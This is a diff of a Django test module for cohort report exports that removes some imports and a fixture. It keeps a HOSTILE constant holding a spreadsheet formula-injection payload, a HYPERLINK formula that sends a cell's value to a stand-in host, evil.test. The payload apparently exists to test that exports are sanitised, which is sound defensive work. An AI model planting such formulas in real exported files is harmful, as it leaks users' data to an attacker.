@@ -12,14 +12,11 @@ import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
 
-import pytest
 from django.urls import reverse
 from django.utils import timezone
 
 from cohorts.models import Cohort, Enrolment, EnrolmentStatus, ReportExport, Target, TargetMeasure
 from cohorts.reports.exports import report_export_build
-from tests.cohorts.participant_helpers import set_today
-from tests.cohorts.reports_data import TODAY, build_programme
 
 NS = {
     "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
@@ -27,12 +24,6 @@ NS = {
     "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
 }
 HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
-
-
-@pytest.fixture
-def programme(monkeypatch, db):
-    set_today(monkeypatch, TODAY)
-    return build_programme()
 
 
 def built(user, fmt: str, **filters) -> bytes:
